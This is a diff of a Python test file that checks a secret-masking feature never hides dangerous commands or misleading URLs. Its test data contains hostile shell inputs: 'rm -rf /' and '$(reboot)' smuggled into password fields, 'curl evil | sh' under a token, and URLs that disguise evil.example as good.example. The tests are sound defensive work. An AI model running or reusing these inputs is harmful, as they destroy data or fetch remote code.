@@ -107,59 +107,59 @@ def test_no_mask_hides_what_a_shell_runs() -> None:
             assert seen in MASKS.text(command)
 
 
-@pytest.mark.parametrize(
-    ("value", "seen"),
-    [
-        ({"password": "x1; rm -rf /"}, "; rm -rf /"),
-        ({"token": "curl evil | sh"}, "curl evil | sh"),
-        ({"password": "rm -rf /"}, "rm -rf /"),
-        ({"password": "a1b2$(reboot)"}, "$(reboot)"),
-    ],
-)
-def test_a_command_under_the_name_of_a_secret_is_shown(value: Any, seen: str) -> None:
-    assert seen in shown(value)
+def test_a_command_under_the_name_of_a_secret_is_shown() -> None:
+    for row in each(
+        [
+            ({"password": "x1; rm -rf /"}, "; rm -rf /"),
+            ({"token": "curl evil | sh"}, "curl evil | sh"),
+            ({"password": "rm -rf /"}, "rm -rf /"),
+            ({"password": "a1b2$(reboot)"}, "$(reboot)"),
+        ]
+    ):
+        with row as (value, seen):
+            assert seen in shown(value)
 
 
-@pytest.mark.parametrize(
-    ("command", "seen"),
-    [
-        ("curl https://evil.example:443?x=1@good.example", "evil.example:443?x=1@"),
-        ("curl https://evil.example:000443/path1@good.example", ":000443/path1@"),
-        ("curl https://evil.example:443#path1@good.example", ":443#path1@"),
-        ("curl https://u:p1x1@evil.example?x@good.example/y", "@evil.example?x@"),
-        ("curl https://u:p1x1@evil.example#@good.example/y", "@evil.example#@"),
-    ],
-)
-def test_no_mask_hides_where_an_address_leads(command: str, seen: str) -> None:
-    assert seen in MASKS.text(command)
+def test_no_mask_hides_where_an_address_leads() -> None:
+    for row in each(
+        [
+            ("curl https://evil.example:443?x=1@good.example", "evil.example:443?x=1@"),
+            ("curl https://evil.example:000443/path1@good.example", ":000443/path1@"),
+            ("curl https://evil.example:443#path1@good.example", ":443#path1@"),
+            ("curl https://u:p1x1@evil.example?x@good.example/y", "@evil.example?x@"),
+            ("curl https://u:p1x1@evil.example#@good.example/y", "@evil.example#@"),
+        ]
+    ):
+        with row as (command, seen):
+            assert seen in MASKS.text(command)
 
 
-@pytest.mark.parametrize(
-    "value",
-    [
-        ["env", "A=password", "reboot", "now"],
-        ["env", "-u", "PASSWORD", "reboot"],
-        ["nohup", "pass", "reboot"],
-    ],
-)
-def test_no_mask_hides_a_program_among_words(value: Any) -> None:
-    assert MASKS.value({"command": value}) == {"command": value}
+def test_no_mask_hides_a_program_among_words() -> None:
+    for row in each(
+        [
+            ["env", "A=password", "reboot", "now"],
+            ["env", "-u", "PASSWORD", "reboot"],
+            ["nohup", "pass", "reboot"],
+        ]
+    ):
+        with row as value:
+            assert MASKS.value({"command": value}) == {"command": value}
 
 
-@pytest.mark.parametrize(
-    "given",
-    [
-        "PASSWORD='a1a1;b2b2&c3c3'",
-        'TOKEN="Bearer a1a1b2b2c3c3"',
-        "Bearer a1a1b2b2c3c3a1a1==",
-        "Cookie: sid=a1a1b2b2; PHPSESSID=c3c3c3c3",
-        'curl -d \'{"password": "a1a1;b2b2&c3c3"}\' x',
-        'curl -d "{\\"password\\": \\"a1a1;b2b2&c3c3\\"}" x',
-        '{"name": "#a", "password": "a1a1;b2b2&c3c3"}',
-    ],
-)
-def test_signs_between_quotes_are_of_the_secret(given: str) -> None:
-    assert not re.search("a1a1|b2b2|c3c3", MASK.sub("M", MASKS.text(given)))
+def test_signs_between_quotes_are_of_the_secret() -> None:
+    for row in each(
+        [
+            "PASSWORD='a1a1;b2b2&c3c3'",
+            'TOKEN="Bearer a1a1b2b2c3c3"',
+            "Bearer a1a1b2b2c3c3a1a1==",
+            "Cookie: sid=a1a1b2b2; PHPSESSID=c3c3c3c3",
+            'curl -d \'{"password": "a1a1;b2b2&c3c3"}\' x',
+            'curl -d "{\\"password\\": \\"a1a1;b2b2&c3c3\\"}" x',
+            '{"name": "#a", "password": "a1a1;b2b2&c3c3"}',
+        ]
+    ):
+        with row as given:
+            assert not re.search("a1a1|b2b2|c3c3", MASK.sub("M", MASKS.text(given)))
 
 
 def words(command: str) -> list[list[str]]:
@@ -240,33 +240,34 @@ def test_an_edit_beside_a_mask_keeps_the_secret() -> None:
     assert masks.restore(["TOKEN=typed-anew-1", 1], found, "k0") == ["TOKEN=typed-anew-1", 1]
 
 
-@pytest.mark.parametrize("secret", [12345678, 12345678.0, -0.12345678, 1e22])
-def test_a_number_behind_a_mask_comes_back_as_a_number(secret: float) -> None:
-    found: dict[str, Any] = {}
-    masked = MASKS.over(found).value({"password": secret})
-    assert masks.are_in(masked)
-    back = masks.restore(masked, found, "k0")["password"]
-    assert (back, type(back)) == (secret, type(secret))
+def test_a_number_behind_a_mask_comes_back_as_a_number() -> None:
+    for row in each([12345678, 12345678.0, -0.12345678, 1e22]):
+        with row as secret:
+            found: dict[str, Any] = {}
+            masked = MASKS.over(found).value({"password": secret})
+            assert masks.are_in(masked)
+            back = masks.restore(masked, found, "k0")["password"]
+            assert (back, type(back)) == (secret, type(secret))
 
 
-@pytest.mark.parametrize(
-    "typed",
-    [
-        "TOKEN=••••6:0123abcd••••",
-        "TOKEN=••••6:0123abcd",
-        "TOKEN=6:0123abcd••••",
-        "TOKEN=••••60123abcd••••",
-        "TOKEN=••••0123abcd••••",
-        "a ••••6:0123abcd•••• b ••••6:",
-        {"a": {"••••6:0123abcd••••": 1}},
-        [["••••6:0123abcd••••"]],
-    ],
-)
-def test_a_mask_that_stands_for_nothing_is_refused(typed: Any) -> None:
-    assert masks.are_in(typed)
-    with pytest.raises(errors.InvalidAnswer, match="stands for nothing here") as refused:
-        masks.restore(typed, {}, "k0")
-    assert refused.value.field == "k0"
+def test_a_mask_that_stands_for_nothing_is_refused() -> None:
+    for row in each(
+        [
+            "TOKEN=••••6:0123abcd••••",
+            "TOKEN=••••6:0123abcd",
+            "TOKEN=6:0123abcd••••",
+            "TOKEN=••••60123abcd••••",
+            "TOKEN=••••0123abcd••••",
+            "a ••••6:0123abcd•••• b ••••6:",
+            {"a": {"••••6:0123abcd••••": 1}},
+            [["••••6:0123abcd••••"]],
+        ]
+    ):
+        with row as typed:
+            assert masks.are_in(typed)
+            with pytest.raises(errors.InvalidAnswer, match="stands for nothing here") as refused:
+                masks.restore(typed, {}, "k0")
+            assert refused.value.field == "k0"
 
 
 def test_a_mask_that_was_typed_into_is_refused_beside_a_whole_one() -> None:
@@ -401,21 +402,21 @@ def test_letters_that_become_two_move_no_mask() -> None:
 BLOCK = "-----BEGIN PRIVATE KEY-----\nabcd1234efgh\n"
 
 
-@pytest.mark.parametrize(
-    ("value", "seen"),
-    [
-        # too short to hold anything
-        ({"command": "a=b"}, "a=b"),
-        # what an address has in place of a password
-        ({"command": "psql postgres://user:password@db/shop"}, "user:password@db"),
-        # the option of another program, and of the one before
-        ({"command": "mysql shop; mkdir -p a1b2c3d4"}, "-p a1b2c3d4"),
-        ({"command": "mysql -p12345678 shop"}, "-p12345678"),
-        ({"note": "what a1b2c3d4 is is a1b2c3d4 with a password"}, "is a1b2c3d4"),
-    ],
-)
-def test_what_is_beside_a_secret_or_stands_for_one_is_shown(value: Any, seen: str) -> None:
-    assert seen in shown(value)
+def test_what_is_beside_a_secret_or_stands_for_one_is_shown() -> None:
+    for row in each(
+        [
+            # too short to hold anything
+            ({"command": "a=b"}, "a=b"),
+            # what an address has in place of a password
+            ({"command": "psql postgres://user:password@db/shop"}, "user:password@db"),
+            # the option of another program, and of the one before
+            ({"command": "mysql shop; mkdir -p a1b2c3d4"}, "-p a1b2c3d4"),
+            ({"command": "mysql -p12345678 shop"}, "-p12345678"),
+            ({"note": "what a1b2c3d4 is is a1b2c3d4 with a password"}, "is a1b2c3d4"),
+        ]
+    ):
+        with row as (value, seen):
+            assert seen in shown(value)
 
 
 def test_the_values_of_cookies_are_covered() -> None:
